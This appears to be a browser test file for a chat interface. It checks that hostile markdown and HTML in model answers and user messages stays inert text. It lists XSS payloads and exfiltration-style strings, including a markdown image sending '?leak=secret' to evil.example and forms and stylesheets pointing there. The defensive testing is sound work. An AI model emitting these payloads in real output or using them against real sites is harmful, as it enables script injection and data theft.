"""Nothing that a model writes becomes active, whichever way it is cut while it streams."""

import pytest
from playwright.sync_api import expect

from tests.browser.chat_page import ask, expect_idle, last_answer

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)></svg>",
    "[click](javascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "![pixel](https://evil.example/p.png?leak=secret)",
    "<iframe src=https://evil.example></iframe>",
    '<https://example.com/" onmouseover="alert(1)>',
    '```"><img/src=x/onerror=alert(1)>\ncode\n```',
    "<a id=page name=page href=//evil.example>x</a>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <form action=https://evil.example><button>go |",
    "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
]


@pytest.mark.parametrize("rate", [0, 60])
def test_hostile_markdown_stays_text(page, rate):
    """At 60 pieces a second every string is painted in the middle; `problems` sees dialogs and requests that leave."""
    ask(page, "[[say=" + "\n\n".join(HOSTILE) + f"]] [[rate={rate}]]")
    expect_idle(page)
    for state in ("streamed", "stored"):
        prose = last_answer(page).locator(".prose")
        expect(prose).to_contain_text("<script>alert(1)</script>")
        found = prose.evaluate("e => [...new Set([...e.querySelectorAll('*')].map(n => n.localName))]")
        assert set(found) <= {
            *("p", "a", "br", "code", "pre", "span", "div", "button", "svg", "use"),
            *("table", "thead", "tbody", "tr", "th", "td"),
        }, state
        hrefs = prose.evaluate("e => [...e.querySelectorAll('a')].map(a => a.getAttribute('href'))")
        assert all(href is None or href.startswith("https://") for href in hrefs), state
        names = prose.evaluate("e => [...e.querySelectorAll('*')].flatMap(n => n.getAttributeNames())")
        assert not {name for name in names if name.startswith("on") or name in {"id", "name", "style", "src"}}, state
        page.reload()


def test_what_people_write_stays_text_too(page):
    text = "<img src=x onerror=alert(1)> <b>bold</b>"
    ask(page, text)
    expect_idle(page)
    expect(page.locator(".bubble")).to_have_text(text)
    page.reload()
    expect(page.locator(".bubble")).to_have_text(text)
    expect(page.locator("#conversations")).to_contain_text(text[:20])
